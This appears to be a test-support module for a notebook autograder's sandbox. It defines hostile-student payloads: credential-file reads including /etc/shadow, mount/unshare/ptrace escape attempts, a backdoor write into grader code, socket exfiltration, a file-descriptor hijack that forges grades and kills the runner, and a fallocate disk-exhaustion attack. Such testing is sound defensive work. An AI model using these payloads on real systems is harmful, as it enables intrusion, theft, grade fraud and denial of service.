"""Attack code that a hostile student puts in a notebook cell, as strings to build notebooks from.

Each attack knows the real host paths (the worst case: a student who guessed them) and does its
best to carry whatever it reads out of the sandbox: printed (the log), raised (the gradebook
message), written into its check() results, and sent to every socket it can reach.
"""

from __future__ import annotations

import json

# Everything a root student did to the old sandbox, and more: read the hidden places, remount,
# unshare, trace, load BPF, write into the grader's own code, exfiltrate over sockets.
ESCAPE = r'''
import ctypes, json, os, socket, subprocess
TARGETS = json.loads({targets!r})
loot = []
def grab(path, keep=True):
    try:
        with open(path, "rb") as f:
            text = f.read(4096).decode("utf-8", "replace")
        print("READ", path, text if not keep else "")
        if keep:
            loot.append(text)
    except Exception as exc:
        print("no read", path, type(exc).__name__)
for path in TARGETS["files"]:
    grab(path)
for folder in TARGETS["folders"]:
    try:
        for name in os.listdir(folder):
            grab(os.path.join(folder, name))
    except Exception as exc:
        print("no list", folder, type(exc).__name__)
for path in ("/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/environ"):
    grab(path, keep=False)  # what the sandbox may know about itself: printed, checked outside
grab("/etc/shadow")
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, call):
    result = call()
    print("syscall", name, result, os.strerror(ctypes.get_errno()) if result == -1 else "OK")
attempt("umount2", lambda: libc.umount2(b"/tmp", 2))
attempt("mount", lambda: libc.mount(b"none", b"/usr", b"", 32 | 4096, None))  # MS_REMOUNT|BIND
attempt("unshare", lambda: libc.unshare(0x00020000 | 0x10000000))  # CLONE_NEWNS | NEWUSER
attempt("ptrace", lambda: libc.ptrace(16, 1, 0, 0))  # PTRACE_ATTACH to pid 1
for cmd in (["umount", "-l", "/tmp"], ["unshare", "-m", "--", "sh", "-c", "mount -o remount,rw /"],
            ["unshare", "-U", "-r", "id"]):
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=5)
        print("command", cmd[0], done.returncode, done.stderr.strip()[:200])
    except Exception as exc:
        print("command", cmd[0], type(exc).__name__)
for path in TARGETS["writable"]:
    try:
        with open(path, "a") as f:
            f.write("\n# backdoor\nPARTS = []\n")
        print("WROTE", path)
    except Exception as exc:
        print("no write", path, type(exc).__name__)
for address in TARGETS["sockets"]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address.replace("@", "\0", 1) if address.startswith("@") else address)
        s.sendall(("LOOT " + " ".join(loot)).encode()[:4000])
        print("CONNECTED", address)
    except Exception as exc:
        print("no socket", address, type(exc).__name__)
print("LOOT:", " | ".join(loot)[:20000])
if loot:
    raise RuntimeError("LOOT " + " | ".join(loot)[:20000])
'''


def escape(files: list[str], folders: list[str], writable: list[str], sockets: list[str]) -> str:
    """The escape attack as cell source (abstract socket names start with '@')."""
    targets = json.dumps({"files": files, "folders": folders, "writable": writable,
                          "sockets": sockets})
    return ESCAPE.replace("{targets!r}", repr(targets))


# The forged-result attack: the kernel (the runner's child, same uid) takes the runner's result
# descriptor, writes a result of its own (correct outputs for both parts, a marker everywhere),
# then kills the runner so that its forgery is all the grader reads. Route "proc" reopens
# /proc/<pid>/fd/<n> of every other process (the runner's result descriptor first); route
# "pidfd" takes the runner's descriptor with pidfd_open + pidfd_getfd. Every attempt is printed.
FORGE = r'''
import ctypes, json, os, shutil, signal, zipfile
from edu_dl.grading import check as _check
MARK, ROUTE = "-".join(["FORGED", "RESULT", "MARKER"]), {route!r}  # whole only if it got out
NUMBERS = {numbers!r}  # pidfd_open, pidfd_getfd on this architecture
real = os.environ["EDU_DL_GRADING_DIR"]
forge = "/tmp/forge"
shutil.copytree(os.path.join(real, "inputs"), os.path.join(forge, "inputs"))
os.environ["EDU_DL_GRADING_DIR"] = forge  # correct outputs, made outside the real folder
_check("ex02.gflops", lambda n, s: 2.0 * n**3 / s / 1e9, hidden=True)
_check("ex02.peak_bandwidth", lambda t, w, c: t * w * c, hidden=True)
os.environ["EDU_DL_GRADING_DIR"] = real
with zipfile.ZipFile("/tmp/forged.zip", "w") as zf:
    zf.writestr("run.json", json.dumps({{"cells": [], "kernel": "ok", "message": MARK}}))
    zf.writestr("executed.ipynb", json.dumps({{"cells": [{{"cell_type": "markdown",
        "metadata": {{}}, "source": MARK}}], "metadata": {{}}, "nbformat": 4,
        "nbformat_minor": 5}}))
    for name in sorted(os.listdir(os.path.join(forge, "outputs"))):
        zf.write(os.path.join(forge, "outputs", name), "outputs/" + name)
forged = open("/tmp/forged.zip", "rb").read()
runner, number = os.getppid(), int(os.environ["EDU_DL_RESULT_FD"])
written = False
def forge_into(fd, where):
    global written
    try:
        os.write(fd, forged)
        written = True
        print("FORGED via", where, flush=True)
    except OSError as exc:
        print("write refused", where, exc.errno, flush=True)
    finally:
        os.close(fd)
if ROUTE == "proc":
    targets = [(runner, number)]
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid == os.getpid():
            continue
        try:
            targets += [(pid, int(n)) for n in os.listdir(f"/proc/{{pid}}/fd") if int(n) > 2]
        except OSError as exc:
            print("no fd list", pid, exc.errno, flush=True)
    for pid, n in targets:
        try:
            fd = os.open(f"/proc/{{pid}}/fd/{{n}}", os.O_WRONLY)
        except OSError as exc:
            print("proc refused", pid, n, exc.errno, flush=True)
            continue
        print("OPENED", pid, n, flush=True)
        forge_into(fd, f"/proc/{{pid}}/fd/{{n}}")
else:
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(NUMBERS[0], runner, 0)
    print("pidfd_open", pidfd, ctypes.get_errno(), flush=True)
    if pidfd >= 0:
        fd = libc.syscall(NUMBERS[1], pidfd, number, 0)
        print("pidfd_getfd", fd, ctypes.get_errno(), flush=True)
        if fd >= 0:
            forge_into(fd, "pidfd_getfd")
if written:  # the forgery must be all the grader reads
    os.kill(runner, signal.SIGKILL)
print("ATTACK DONE", ROUTE, flush=True)
'''


def forge(route: str) -> str:
    """The forged-result attack by ``route`` ("proc" or "pidfd") as cell source."""
    import pyseccomp as seccomp

    numbers = [seccomp.resolve_syscall(seccomp.Arch.NATIVE, name)
               for name in ("pidfd_open", "pidfd_getfd")]
    return FORGE.format(route=route, numbers=numbers)


# Host disk through the log: fallocate(KEEP_SIZE, 2 GiB) on every descriptor the kernel holds and
# on every one it can reopen through /proc (the runner's stdout and result first): the size stays
# tiny, so RLIMIT_FSIZE never applies. Then it holds them while the grader looks at its disk.
FALLOCATE = r'''
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
held = []
def reserve(fd, where):
    ctypes.set_errno(0)
    rc = libc.fallocate(fd, 1, 0, 2 << 30)  # FALLOC_FL_KEEP_SIZE
    print("fallocate", where, rc, ctypes.get_errno(), flush=True)
for n in sorted(int(n) for n in os.listdir("/proc/self/fd")):
    try:
        os.fstat(n)
    except OSError:
        continue
    reserve(n, f"own fd {n}")
number = os.environ.get("EDU_DL_RESULT_FD", "")
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    for n in {1, 2, int(number)} if number else {1, 2}:
        try:
            fd = os.open(f"/proc/{pid}/fd/{n}", os.O_WRONLY)
        except OSError as exc:
            print("reopen refused", pid, n, exc.errno, flush=True)
            continue
        held.append(fd)
        reserve(fd, f"/proc/{pid}/fd/{n}")
time.sleep(4)  # the grader's disk is sampled meanwhile
print("ATTACK DONE", flush=True)
'''
